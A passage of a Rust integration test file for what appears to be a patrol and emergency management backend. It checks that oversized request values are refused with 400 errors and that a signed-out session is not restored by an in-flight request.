    let (status, body) = admin.patch(&format!("/users/{id}"), &json!({ "phone": "+54 (11) 4000-1234" })).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = admin.get(&format!("/users?text={}", "a".repeat(300))).await;
    assert_eq!((status, crate::common::problem_fields(&body)), (StatusCode::BAD_REQUEST, vec!["text".to_owned()]));
    let (status, _) = admin.get("/users?text=gad.local").await;
    assert_eq!(status, StatusCode::OK);
}

/// What is larger than any valid value is refused before it reaches a store or the database,
/// with a 400 and its field: a task filter (the list's cache key) with a huge text or more
/// statuses than exist (past the database's bound parameters it was a 500), a task or an
/// emergency with thousands of officers (one error line each), a week beyond the calendar
/// (the digest panicked), and a phone padded with spaces is stored as checked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_values_are_refused_before_any_store() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let sup = app.login("supervisor@gad.local", DEMO_PASSWORD).await;
    let query = |filter: Value| {
        let (client, url) = (sup.clone(), app.url("/api/fn/query_tasks"));
        async move {
            let res = client.post(url).header(ACCEPT, "application/json").json(&json!({ "filter": filter })).send();
            let res = res.await.unwrap();
            (res.status(), res.text().await.unwrap())
        }
    };
    let (status, body) = query(json!({ "statuses": vec!["scheduled"; 70_000] })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
    assert!(body.contains("statuses"), "{body}");
    let (status, body) = query(json!({ "text": "x".repeat(300_000) })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
    let (status, body) = query(json!({ "cursor": "c".repeat(10_000) })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
    let (status, body) = query(json!({ "statuses": ["scheduled", "in_progress"], "text": "ronda" })).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    let rest = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    let ids: Vec<i64> = (1_000_000..1_005_000).collect();
    let (status, body) =
        rest.post("/tasks", &json!({ "title": "Operativo", "task_type": "patrol", "officer_ids": ids })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let errors = body["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "one error, not one a id: {}", errors.len());
    assert!(errors[0]["message"].as_str().unwrap().contains("hasta 200"), "{body}");
    let (status, body) = rest
        .post(
            "/emergencies",
            &json!({ "lat": -34.6, "lon": -58.4, "assign": { "officers": (1..=21).collect::<Vec<i64>>() } }),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");

    let res = app.call(&sup, "feedback_digest", &[("week", "+262142-12-31")]).await;
    let status = res.status();
    let body = res.text().await.unwrap();
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert!(body.contains("1900"), "{body}");

    let admin = Rest::sign_in(&app, "admin@gad.local", ADMIN_PASSWORD, false).await;
    let padded = format!("123{}", " ".repeat(5_000));
    let (status, body) = admin
        .post(
            "/users",
            &json!({ "dni": "47654321", "first_name": "Ana", "last_name": "Paz",
            "email": "ana.paz@gad.local", "role": "supervisor", "phone": padded }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let stored = users::Entity::find().filter(users::Column::Email.eq("ana.paz@gad.local")).one(&app.state.db).await;
    assert_eq!(stored.unwrap().unwrap().phone.as_deref(), Some("123"));
}

/// A sign-out deletes the session; a request on the same cookie that was already running
/// (a slow upload, a long page) ends by saving what it loaded, and that save must not bring
/// the session back. Both stores: Redis (`SET … XX`) and in-process.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signed_out_session_is_not_written_back_by_a_request_still_running() {
    use tower_sessions::SessionStore;
    use tower_sessions::session::{Id, Record};
    let manager = gad_core::redis_pool::RedisManager::new(&crate::common::redis_url()).unwrap();
    let pool = bb8::Pool::builder().max_size(2).build(manager).await.unwrap();
    for store in [gad_core::sessions::GadSessionStore::new(Some(pool)), gad_core::sessions::GadSessionStore::new(None)]
    {
        let mut record = Record {
            id: Id::default(),
            data: std::collections::HashMap::new(),
            expiry_date: time::OffsetDateTime::now_utc() + time::Duration::hours(1),
        };
        store.create(&mut record).await.unwrap();
        record.data.insert("seen".into(), serde_json::json!(1));
        store.save(&record).await.unwrap();
        let held = store.load(&record.id).await.unwrap().expect("held");
        assert_eq!(held.data, record.data, "{store:?}: a held session is updated");
        store.delete(&record.id).await.unwrap();
        store.save(&record).await.unwrap();
        assert!(store.load(&record.id).await.unwrap().is_none(), "{store:?}: the sign-out stands");
    }
}
